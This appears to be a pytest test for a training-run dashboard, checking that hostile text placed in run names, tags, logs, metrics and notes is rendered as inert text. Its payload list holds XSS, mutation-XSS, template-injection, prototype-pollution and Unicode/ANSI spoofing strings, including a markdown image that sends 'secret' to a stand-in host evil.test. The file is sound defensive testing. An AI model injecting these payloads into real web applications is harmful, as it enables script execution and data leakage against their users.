"""Text from models, users and files is shown, and nothing else: it runs nothing, loads nothing, leaves nothing."""

from __future__ import annotations

import time

import pytest
from console_world import settle

PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<svg onload=window.__pwned=1>",
    '"><iframe srcdoc="<script>parent.__pwned=1</script>">',
    "javascript:window.__pwned=1",
    "![leak](http://evil.test/?q=secret)",
    "<link rel=stylesheet href=//evil.test/x.css><style>@import '//evil.test'</style>",
    "<math><mtext></p><style><img src=x onerror=__pwned=1></style>",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1}",
    "\u202egnp.exe\u202c \u200b\u2066zero\u2069",
    "\x1b[31mred\x1b]8;;http://evil.test\x07link",
    "__proto__",
]

LOOK = """() => {
  const count = (selector) => document.querySelectorAll(selector).length;
  const named = [...document.querySelectorAll('main *')].flatMap((each) => [...each.attributes].map((a) => a.name));
  return {
    pwned: window.__pwned ?? null,
    inside: count('main :is(script, iframe, object, embed, base, meta, link, style, img)'),
    handlers: named.filter((name) => name.startsWith('on')).length,
    links: count("main a[href^='javascript']"),
  };
}"""


@pytest.fixture(scope="module")
def hostile(world):
    """A run in which every text of the list, the header, the charts, the config and the log is hostile."""
    from benchmax.platform.store.runs import events, runs

    everything = " ".join(PAYLOADS)
    run = world.add_run(
        name=f"hostile {everything}"[:280],
        status="failed",
        reason=everything,
        tags=[text[:50] for text in PAYLOADS],
        args={text[:60]: text for text in PAYLOADS},
        paths={"env_cls_path": everything},
    )
    values = {f"reward_stats/{text}/reward/mean": 0.5 for text in PAYLOADS} | dict.fromkeys(PAYLOADS, 1.0)
    world.add_points(run, [(step, "train", time.time(), values | {"reward/mean": 0.1}) for step in (0, 1)], total=2)
    folder = world.data.run(run)
    folder.mkdir(parents=True, exist_ok=True)
    lines = [f"2026-11-15 06:00:00,000 ERROR x: {text}" for text in PAYLOADS]
    (folder / "child.log").write_text("\n".join(lines) + "\n")
    with world.database.write() as session:
        events.append(session, run, "trainer.alert", everything, category="alert", data={"step": 1})
        runs.get(session, run).notes = everything
        runs.get(session, run).activity = everything
    return run


TABS = ("", "train", "config", "checkpoints", "system", "eval", "logs")


def test_hostile_text_is_only_text_and_what_cannot_be_seen_gets_a_mark(open_page, world, hostile):
    page = open_page("/device")
    for tab in TABS:
        page.goto(f"{world.url}/experiments/{hostile}/{tab}" if tab else f"{world.url}/experiments")
        page.get_by_text("gnp.exe").first.wait_for()
        settle(page)
        if tab == "train":
            closed = page.locator(".fold-head[aria-expanded=false]")
            while closed.count():
                closed.first.click()
            page.locator(".chart").nth(12).wait_for()
        assert page.evaluate(LOOK) == {"pwned": None, "inside": 0, "handlers": 0, "links": 0}, tab
    page.locator(".log .hidden-mark", has_text="RLO").wait_for()
    page.locator(".log .hidden-mark", has_text="ESC").first.wait_for()
